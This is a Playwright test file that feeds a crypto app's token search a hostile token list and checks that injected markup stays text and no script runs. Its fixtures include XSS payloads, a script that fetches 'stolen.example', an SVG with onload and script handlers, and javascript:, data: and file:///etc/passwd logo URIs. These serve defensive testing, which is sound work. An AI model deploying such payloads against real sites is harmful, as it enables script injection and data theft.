import type { Page } from '@playwright/test'
import { expect, test } from './app'

const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'
const addressAt = (at: number) => `0x${(at + 1).toString(16).padStart(40, '0')}`
const field = (page: Page) => page.getByRole('combobox', { name: 'Search tokens' })
const options = (page: Page) => page.getByRole('search').getByRole('option')

async function serveTokens(page: Page, tokens: readonly object[]) {
  const list = tokens.map((token, at) => ({ chainId: 1, address: addressAt(at), ...token }))
  await page.route('**/lists/tokens.json', (route) => route.fulfill({ json: { tokens: list } }))
}

const SCRIPT = 'document.title = "pwned"; fetch("https://stolen.example")'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload='${SCRIPT}'><script>${SCRIPT}</script></svg>`

const TEXTS = [
  '<b>MEME</b>',
  '</script>MEME',
  '{{7*7}}MEME',
  '${7*7}MEME',
  'MEME\n\n\nMEME',
  `MEME${'\u0301'.repeat(40)}`,
  'M'.repeat(1_000) + 'EME',
  '<img src=x onerror=alert(1)>MEME',
]
const LOGOS: [symbol: string, logoURI: string, isShown: boolean][] = [
  ['LOGO0', `javascript:${SCRIPT}`, false],
  ['LOGO1', `data:text/html,<script>${SCRIPT}</script>`, false],
  ['LOGO2', 'file:///etc/passwd', false],
  ['LOGO3', 'blob:https://logos.example/1', false],
  ['LOGO4', '//logos.example/none.png', false],
  ['LOGO5', 'http://logos.example/plain.png', false],
  ['LOGO6', `https://logos.example/${'x'.repeat(200_000)}`, false],
  ['LOGO7', `data:image/svg+xml,${encodeURIComponent(SVG)}`, true],
  ['LOGO8', 'https://logos.example/script.svg', true],
  ['LOGO9', 'ipfs://QmCid/logo.png', true],
  ['LOGO10', 'https://logos.example/missing.png', false],
  ['LOGO11', 'https://logos.example/heavy.png', false],
  ['LOGO12', 'https://logos.example/tall.svg', true],
]

/** Answers for the hosts of logos. Returns an array to which the requested URLs are added. */
async function serveLogos(page: Page): Promise<string[]> {
  const requested: string[] = []
  await page.context().route(/^https?:\/\/(logos\.example|stolen\.example|ipfs\.io)\//, async (route) => {
    const url = route.request().url()
    requested.push(url)
    expect(route.request().headers().referer).toBeUndefined()
    if (url.endsWith('missing.png')) return route.fulfill({ status: 404 })
    if (url.endsWith('heavy.png')) return route.fulfill({ contentType: 'image/png', body: Buffer.alloc(20_000_000) })
    const [width, height] = url.endsWith('tall.svg') ? [1, 100_000] : [8, 8]
    const body = SVG.replace('width="8" height="8"', `width="${width}" height="${height}"`)
    return route.fulfill({ contentType: 'image/svg+xml', body })
  })
  return requested
}

test.describe('a hostile list', () => {
  // These errors are expected, because the test uses a logo that does not exist and a file that is not a picture.
  test.use({ expectedErrors: /404|Failed to load resource/, pictures: false })

  test('L18, L19, L20, L21, L22: markup is text, only pictures are requested, none runs a script or leaves its box', async ({
    page,
  }) => {
    const shipped = { symbol: 'USDC', logoURI: 'https://logos.example/usdc.png' }
    await serveTokens(page, [
      ...TEXTS.map((symbol) => ({ symbol, name: `${symbol}<script>${SCRIPT}</script>` })),
      ...LOGOS.map(([symbol, logoURI], at) => ({ symbol, logoURI, address: `0xff${addressAt(at).slice(4)}` })),
      { ...shipped, name: 'USD Coin', address: USDC },
      // This record has the same symbol but another address, so its logo must not be used.
      {
        ...shipped,
        name: 'Another',
        logoURI: 'https://logos.example/other.png',
        address: `0xfe${addressAt(0).slice(4)}`,
      },
    ])
    const requested = await serveLogos(page)
    let release: () => void = () => undefined
    const held = new Promise<void>((resolve) => (release = resolve))
    await page.route('**/icons/tokens/usdc.webp', async (route) => {
      await held
      await route.continue()
    })
    await page.goto('/profile')

    await test.step('markup in a symbol or a name is text, and no text changes the height of a row', async () => {
      await field(page).fill('0x0000')
      await expect(options(page)).toHaveCount(TEXTS.length)
      for (const [at, text] of TEXTS.slice(0, 4).entries()) await expect(options(page).nth(at)).toContainText(text)
      await expect(options(page).locator('script, img')).toHaveCount(0)
      for (const option of await options(page).all()) {
        expect((await option.boundingBox())?.height).toBe(56)
        expect(await option.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBeLessThanOrEqual(
          0,
        )
      }
    })

    await test.step('only pictures are requested, none runs a script, none leaves its box', async () => {
      await field(page).fill('logo')
      await expect(options(page)).toHaveCount(LOGOS.length)
      for (const [at, [symbol, , isShown]] of LOGOS.entries()) {
        const option = options(page).nth(at)
        await option.scrollIntoViewIfNeeded()
        await expect(option.locator('img'), symbol).toHaveCount(isShown ? 1 : 0)
        if (isShown) await expect(option.locator('img')).toHaveJSProperty('complete', true)
        expect(await option.locator('[aria-hidden=true]').first().boundingBox()).toMatchObject({
          width: 36,
          height: 36,
        })
        expect((await option.boundingBox())?.height).toBe(56)
      }
    })

    await test.step('one that ships with the build is asked of no other host, and the letter shows until then', async () => {
      await field(page).fill('usdc')
      const logo = options(page).filter({ hasText: 'USD Coin' }).locator('img')
      const plate = () => logo.evaluate((image) => getComputedStyle(image).backgroundColor)
      await expect(logo).toHaveAttribute('src', '/icons/tokens/usdc.webp')
      await expect.poll(plate).toBe('rgba(0, 0, 0, 0)')
      release()
      await expect.poll(plate).toBe('rgb(255, 255, 255)')
      expect(await logo.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0)
    })

    await expect
      .poll(() => [...new Set(requested)].sort())
      .toEqual([
        'https://ipfs.io/ipfs/QmCid/logo.png',
        'https://logos.example/heavy.png',
        'https://logos.example/missing.png',
        'https://logos.example/other.png',
        'https://logos.example/script.svg',
        'https://logos.example/tall.svg',
      ])
    await expect(page).not.toHaveTitle('pwned')
  })
})
